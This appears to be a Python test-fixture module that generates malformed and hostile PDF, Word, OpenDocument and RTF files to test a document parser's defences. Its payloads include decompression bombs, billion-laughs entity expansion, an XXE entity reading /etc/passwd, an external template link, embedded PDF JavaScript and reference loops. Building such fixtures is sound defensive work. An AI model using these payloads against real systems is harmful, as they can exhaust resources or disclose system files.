"""Hostile PDF, Word, OpenDocument and Rich Text documents."""

import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.trap import STORY, Trap

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def traps() -> Iterator[Trap]:
    """Yield the traps."""
    yield from _pdfs()
    yield from _words()
    yield from _odts()
    yield from _rtfs()


def pdf(*objects: bytes, root: int = 1, trailer: bytes = b"", start: int | None = None) -> bytes:
    """Return a PDF of these objects, numbered from 1."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %b >>\n" % (len(objects) + 1, root, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % (table if start is None else start)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
LINES = b"BT /F1 11 Tf 50 740 Td 14 TL " + b" ".join(
    b"(%b) '" % line.strip().encode() for line in STORY.replace(",", ",\n").split("\n") if line.strip()
) + b" ET"  # fmt: skip
BOMB = zlib.compress(zlib.compress(bytes(100_000_000), 9), 9)


def _pdfs() -> Iterator[Trap]:
    good = pdf(CATALOG, PAGES, PAGE, stream(LINES), FONT)
    yield Trap("good.pdf", good, "read")
    yield Trap("good-named.txt", good, "read")
    yield Trap("cut.pdf", good[: len(good) // 2])
    yield Trap("head-only.pdf", b"%PDF-1.7\n", "refused")
    yield Trap("rubbish.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 100, "refused")
    yield Trap("no-pages.pdf", pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"), "refused")
    yield Trap("scanned.pdf", pdf(CATALOG, PAGES, PAGE, stream(b"0 0 10 10 re f"), FONT), "refused")
    yield Trap("loop-pages.pdf", pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"))
    yield Trap("loop-object.pdf", pdf(CATALOG, b"2 0 R"))
    yield Trap("loop-parent.pdf", pdf(CATALOG, PAGES, b"<< /Type /Page /Parent 3 0 R /Contents 3 0 R >>"))
    yield Trap("loop-xref.pdf", pdf(CATALOG, PAGES, trailer=b"/Prev 0", start=0))
    yield Trap("loop-prev.pdf", pdf(CATALOG, PAGES, PAGE, stream(LINES), FONT, trailer=b"/Prev 9"))
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>"
    yield Trap(
        "loop-form.pdf",
        pdf(CATALOG, PAGES, PAGE.replace(b"/Font", b"/XObject << /X 4 0 R >> /Font"), stream(b"/X Do", form), FONT),
    )
    yield Trap("inflating.pdf", pdf(CATALOG, PAGES, PAGE, stream(BOMB, b"/Filter [/FlateDecode /FlateDecode]"), FONT))
    yield Trap("inflating-text.pdf", pdf(CATALOG, PAGES, PAGE,
        stream(zlib.compress(b"BT " + b"(a) Tj " * 30_000 + b"ET", 9), b"/Filter /FlateDecode"), FONT))  # fmt: skip
    yield Trap(
        "filters.pdf", pdf(CATALOG, PAGES, PAGE, stream(b"x", b"/Filter [" + b"/ASCIIHexDecode " * 5000 + b"]"), FONT)
    )
    lock = b"<< /Filter /Standard /V 1 /R 2 /P -4 /O (" + b"o" * 32 + b") /U (" + b"u" * 32 + b") >>"
    locked = b"/Encrypt 6 0 R /ID [(i) (i)]"
    yield Trap("encrypted.pdf", pdf(CATALOG, PAGES, PAGE, stream(LINES), FONT, lock, trailer=locked), "refused")
    yield Trap(
        "encrypted-odd.pdf",
        pdf(CATALOG, PAGES, PAGE, stream(LINES), FONT, b"<< /Filter /None /V 99 >>", trailer=b"/Encrypt 6 0 R"),
    )
    yield Trap("deep.pdf", pdf(CATALOG, b"[" * 50_000))
    yield Trap("deep-dict.pdf", pdf(CATALOG, b"<< /A " * 20_000))
    yield Trap(
        "length.pdf", pdf(CATALOG, PAGES, PAGE, stream(LINES).replace(b"/Length", b"/Length 99999999999 %"), FONT)
    )
    yield Trap(
        "count.pdf", pdf(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 99999999999 >>", PAGE, stream(LINES), FONT)
    )
    yield Trap(
        "pages.pdf",
        pdf(CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 20_000 + b"] /Count 20000 >>", PAGE, stream(LINES), FONT),
    )
    yield Trap(
        "box.pdf", pdf(CATALOG, PAGES, PAGE.replace(b"[0 0 612 792]", b"[nan 1e999 -1 (x)]"), stream(LINES), FONT)
    )
    yield Trap("script.pdf", pdf(CATALOG.replace(b">>", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
        PAGES, PAGE, stream(LINES), FONT), "read")  # fmt: skip


def zipped(**members: str | bytes) -> bytes:
    """Return a ZIP archive; double underscores in the names are slashes, one is a dot."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx(document: str | bytes, **more: str | bytes) -> bytes:
    """Return a Word document."""
    return zipped(**{"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document, **more})


def body(inner: str, head: str = '<?xml version="1.0"?>') -> str:
    """Return the main part of a Word document."""
    return f'{head}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'


TEXT = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in STORY.split("\n\n"))


def _words() -> Iterator[Trap]:
    good = docx(body(TEXT))
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield Trap("good.docx", good, "read")
    yield Trap("cut.docx", good[:-60], "refused")
    yield Trap("no-zip.docx", b"PK\x03\x04 word/document.xml", "refused")
    yield Trap("empty.docx", docx(body("")), "refused")
    yield Trap("not-xml.docx", docx("no xml at all"), "refused")
    yield Trap("bomb.docx", docx(b"<x>" + b" " * 100_000_000), "refused")
    yield Trap("bomb-text.docx", docx(body("<w:p><w:r><w:t>" + "a" * 12_000_000 + "</w:t></w:r></w:p>")), "refused")
    yield Trap("bomb-aside.docx", docx(body(TEXT), **{"word/media/image1.png": bytes(50_000_000)}))
    yield Trap(
        "laughs.docx",
        docx(
            body(
                "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>",
                f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>',
            )
        ),
    )
    yield Trap("xxe.docx", docx(body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>" + TEXT, ENTITY)))
    yield Trap("nested.docx", docx(body("<w:tbl><w:tr><w:tc>" * 3000 + TEXT + "</w:tc></w:tr></w:tbl>" * 3000)))
    outside = RELS.replace('Target="word/document.xml"', 'TargetMode="External" Target="http://192.0.2.1/t.dotm"')
    yield Trap("external.docx", docx(body(TEXT), **{"word/_rels/document.xml.rels": outside}))


def _odts() -> Iterator[Trap]:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    inner = "<office:body><office:text>{}</office:text></office:body>"
    whole = f"<office:document-content {spaces}>{inner}</office:document-content>"
    text = "".join(f"<text:p>{line}</text:p>" for line in STORY.split("\n\n"))

    def odt(content: str | bytes) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
            archive.writestr(zipfile.ZipInfo("content.xml"), content, zipfile.ZIP_DEFLATED)
        return buffer.getvalue()

    yield Trap("good.odt", odt(whole.format(text)), "read")
    yield Trap("cut.odt", odt(whole.format(text))[:-60], "refused")
    yield Trap("bomb.odt", odt(b"<x>" + b" " * 100_000_000), "refused")
    yield Trap("xxe.odt", odt(ENTITY + whole.format("<text:p>&x;</text:p>" + text)))
    yield Trap("deep.odt", odt(whole.format("<text:section>" * 20_000)))
    yield Trap("spaces.odt", odt(whole.format('<text:p>a<text:s text:c="999999999"/>b</text:p>' + text)))
    yield Trap("repeat.odt", odt(whole.format("<text:p><text:tab/><text:line-break/></text:p>" * 30_000 + text)))


def _rtfs() -> Iterator[Trap]:
    lines = STORY.replace("\n\n", "\\par ").encode()
    yield Trap("good.rtf", b"{\\rtf1\\ansi " + lines + b"}", "read")
    yield Trap("named.docx", b"{\\rtf1\\ansi " + lines + b"}", "read")
    yield Trap("deep.rtf", b"{\\rtf1 " + b"{" * 300_000 + lines)
    yield Trap("closed.rtf", b"{\\rtf1 " + b"}" * 300_000 + lines)
    yield Trap("bin.rtf", b"{\\rtf1 \\bin999999999 " + lines + b"}")
    yield Trap("picture.rtf", b"{\\rtf1 {\\pict " + b"ff" * 2_000_000 + b"}" + lines + b"}")
    yield Trap("unicode.rtf", b"{\\rtf1 \\uc9 " + b"\\u-99999?\\u999999999999?\\'zz\\'" * 5000 + lines + b"}")
    yield Trap(
        "object.rtf", b"{\\rtf1 {\\object\\objupdate{\\*\\objdata " + b"d0cf11e0" * 50_000 + b"}}" + lines + b"}"
    )
    yield Trap("empty.rtf", b"{\\rtf1}", "refused")
